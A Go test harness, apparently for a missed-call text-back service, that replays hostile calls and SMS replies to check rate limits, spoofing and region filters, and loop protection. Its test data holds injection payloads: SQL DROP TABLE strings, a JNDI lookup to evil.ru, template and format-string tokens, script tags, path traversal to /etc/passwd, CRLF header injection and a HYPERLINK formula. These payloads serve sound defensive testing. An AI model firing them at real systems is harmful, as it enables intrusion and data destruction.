package main

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"textback/esl/esltest"
	"textback/smpp/smpptest"
)

// hostile is a call that nobody answers, as a FreeSWITCH tells of it.
type hostile struct {
	number, name, line string
	rings              time.Duration
	withheld, spoofed  bool
}

// ring plays the call: its beginning, and its end as if the caller had hung up.
func (h hostile) ring(pbx *esltest.Server) {
	id, now := esltest.NewUUID(), time.Now()
	if h.line == "" {
		h.line = "+12025550100"
	}
	if h.rings == 0 {
		h.rings = 8 * time.Second
	}
	usec := func(t time.Time) string { return strconv.FormatInt(t.UnixMicro(), 10) }
	began := now.Add(-h.rings)
	common := []string{"Unique-ID", id, "Caller-Unique-ID", id, "Channel-Call-UUID", id, "Call-Direction", "inbound",
		"Channel-Name", "sofia/external/" + h.number + "@192.0.2.7", "Caller-Context", "public",
		"Caller-Caller-ID-Number", h.number, "Caller-Caller-ID-Name", h.name, "Caller-ANI", h.number,
		"Caller-Orig-Caller-ID-Name", h.name, "Caller-Destination-Number", h.line, "variable_sip_to_user", h.line,
		"Caller-Channel-Created-Time", usec(began), "Caller-Channel-Answered-Time", "0",
		"Caller-Privacy-Hide-Number", strconv.FormatBool(h.withheld)}
	if h.spoofed {
		common = append(common, "variable_sip_verstat", "TN-Validation-Failed")
	}
	pbx.Emit(esltest.NewEvent(append([]string{"Event-Name", "CHANNEL_CREATE", "Event-Date-Timestamp", usec(began),
		"Answer-State", "ringing"}, common...)...))
	pbx.Emit(esltest.NewEvent(append([]string{"Event-Name", "CHANNEL_HANGUP_COMPLETE", "Event-Date-Timestamp", usec(now),
		"Answer-State", "hangup", "Hangup-Cause", "ORIGINATOR_CANCEL", "Caller-Channel-Hangup-Time", usec(now),
		"Caller-Channel-Progress-Time", usec(began.Add(50 * time.Millisecond)), "variable_last_app", "bridge",
		"variable_hangup_cause_q850", "16", "variable_sip_hangup_disposition", "recv_cancel"}, common...)...))
}

// someone is a mobile number of the United States, the same for the same i, each in a block of its own for a while.
func someone(i int) string {
	areas := []int{212, 213, 312, 415, 617, 702, 305, 206, 404, 713, 503, 720, 602, 619, 646}
	exchange := 220 + (i/len(areas))%80
	return fmt.Sprintf("+1%d%d%04d", areas[i%len(areas)], exchange, 1000+i%9000)
}

// lineOf spreads calls over the four lines.
func lineOf(i int) string {
	return []string{"+12025550100", "+12025550111", "+12025550122", "+12025550133"}[i%4]
}

// nasty are names that want to be more than a name.
func nasty() []string {
	return []string{
		"\x00\x01\x1b[31mJANE\r\nBcc: x", "\u202eenaJ\u202c, JANE\u2066", "EVIL, http://evil.example/x", "WWW.EVIL.COM, JANE",
		"Robert'); DROP TABLE students;--, BOBBY", "{{.Business}}, {{printf \"%s\" .}}", "${jndi:ldap://evil.ru/a}, X", "%n%n%n%s",
		"<script>alert(1)</script>", strings.Repeat("A", 10_000), strings.Repeat("SMITH, JOHN ", 900), "\xff\xfe\xfd, \xc3\x28",
		"\u200b\u200d\ufeff, \u200bJANE", "DOE, " + strings.Repeat("J\u0301", 300), "STOP", "DOE, JANE evil.com", "N/A", "\t", " , ",
		"DOE, REPLY YES TO 900-555-0100", "\U000e0001\U000e0041, JANE",
	}
}

func attacks() []attack {
	return []attack{
		{name: "one-number-block", most: 20, reason: "rate", expect: "20 texts an hour to one block",
			calls: func(i int) hostile { return hostile{number: fmt.Sprintf("+1202456%04d", i%10_000), line: lineOf(i)} }},
		{name: "one-caller", most: 1, reason: "window", expect: "one text",
			calls: func(i int) hostile { return hostile{number: "+12124567890", line: lineOf(i)} }},
		{name: "random-of-the-country", most: 201, reason: "budget", opens: true,
			expect: "100 texts an hour from one line, 200 from the business; then the breaker opens",
			calls:  func(i int) hostile { return hostile{number: someone(i), line: lineOf(i)} }},
		{name: "random-of-another-country", reason: "region", expect: "no text: +44 is not among the regions",
			calls: func(i int) hostile { return hostile{number: fmt.Sprintf("+447400%06d", 100_000+i)} }},
		{name: "caribbean", reason: "region", expect: "no text: +1 is not a region",
			calls: func(i int) hostile {
				return hostile{number: fmt.Sprintf("+1%s%07d", []string{"876", "809", "784", "649", "473"}[i%5], caribbean[i%5]+i)}
			}},
		{name: "premium-and-toll-free", reason: "not-textable", expect: "no text",
			calls: func(i int) hostile {
				return hostile{number: fmt.Sprintf("+1%s%07d", []string{"900", "800", "888", "877"}[i%4], 2_345_678+i)}
			}},
		{name: "own-lines", reason: "own-number", expect: "no text to ourselves",
			calls: func(i int) hostile { return hostile{number: lineOf(i), line: lineOf(i + 1)} }},
		{name: "withheld", reason: "no-number", expect: "no text",
			calls: func(i int) hostile {
				return []hostile{{number: someone(i), withheld: true}, {number: "anonymous"}, {number: ""}, {number: "Restricted"}}[i%4]
			}},
		{name: "spoofed", reason: "spoofed", expect: "no text: the carrier says that the number failed verification",
			calls: func(i int) hostile { return hostile{number: someone(i), spoofed: true, line: lineOf(i)} }},
		{name: "one-second-rings", reason: "too-short", expect: "no text",
			calls: func(i int) hostile { return hostile{number: someone(i), rings: time.Second, line: lineOf(i)} }},
		{name: "hostile-names", most: 201, reason: "budget", opens: true,
			expect: "texts as usual, but no control or bidi character, no address and no syntax in any of them",
			calls: func(i int) hostile {
				return hostile{number: someone(i), name: nasty()[i%len(nasty())], line: lineOf(i)}
			}},
		{name: "hostile-numbers", most: 0, reason: "no-number", few: 2000, expect: "no text, no verdict lost",
			calls: func(i int) hostile {
				return hostile{number: []string{"+1'; DROP TABLE calls;--", "sip:+12125550100@evil.example;x=" + strings.Repeat("y", 2000),
					"+1212\x00\r\n5550100", "{{.Caller}}", strings.Repeat("9", 300), "\u0661\u0662\u0663", "../../etc/passwd"}[i%7]}
			}},
		{name: "hostile-replies", run: hostileReplies, few: 3000, most: 20,
			expect: "each is acknowledged once stored; only a wish to stop and a call for help are answered, once each"},
		{name: "two-machines", run: twoMachines, few: 20, most: 20 * 3,
			tables: "[[reply]]\nname = \"hours\"\nmatch = [\"sorry\"]\nsend = \"{{.Business}}: we are open 8 to 5. Reply STOP to opt out\"\n",
			expect: "a text-back machine at the other end that answers every text gets three texts at most"},
	}
}

// caribbean are beginnings of numbers that the plans of these places give to somebody.
var caribbean = [5]int{3_010_000, 3_010_000, 4_300_000, 2_310_000, 4_030_000}

func hostileReplies(ctx context.Context, s *scene, n int) error {
	bodies := []string{"HELP", "STOP", "\x00\x01\x02", strings.Repeat("A long story. ", 700), "{{.Business}} ${x} %s", "'; DROP TABLE threads;--",
		"\u202etxet", "http://evil.example/" + strings.Repeat("x", 500), "YES", "START", "\U0001f4a9", "=HYPERLINK(\"http://evil\")"}
	for i := range n {
		// A few senders write again and again, the others once.
		from := someone(i)
		if i%3 == 0 {
			from = someone(i % 10)
		}
		m := smpptest.Message{From: from, To: "+12025550100", Body: bodies[i%len(bodies)]}
		switch i % 11 {
		case 3:
			m.Body, m.Raw, m.Coding = "", []byte{0xD8, 0x00, 0xDC, 0x00, 0xD8}, 8 // half a surrogate pair
		case 5:
			m.Order = []int{2} // the first part never comes
		case 7:
			m.From = "BANK" // letters
		}
		if m.Body == "STOP" || m.Body == "HELP" {
			m.From = someone(i % 10) // few, so that the answers can be counted
		}
		if m.Body == "START" || m.Body == "YES" {
			m.From = someone(5000 + i) // who never said STOP
		}
		if _, err := s.smsc.Deliver(ctx, m); err != nil {
			return err
		}
	}
	s.saw("messages that came in: %d", n)
	return nil
}

// twoMachines calls from phones that answer every text at once with one of their own.
func twoMachines(ctx context.Context, s *scene, n int) error {
	for i := range n {
		hostile{number: someone(i), line: lineOf(i)}.ring(s.freesw)
	}
	answered, replies := 0, 0
	until := time.Now().Add(20 * time.Second)
	for time.Now().Before(until) {
		texts := s.smsc.Texts()
		for _, t := range texts[answered:] {
			replies++
			body := fmt.Sprintf("Bob's Garage: sorry we missed your message no. %d! Reply here and we will text you. Reply STOP to opt out", rand.IntN(1e9))
			s.smsc.Send(smpptest.Message{From: t.To, To: t.From, Body: body})
		}
		answered = len(texts)
		if !wait(ctx, 100*time.Millisecond) {
			return ctx.Err()
		}
	}
	s.saw("calls from %d machines, replies by them: %d in 20 s", n, replies)
	return nil
}
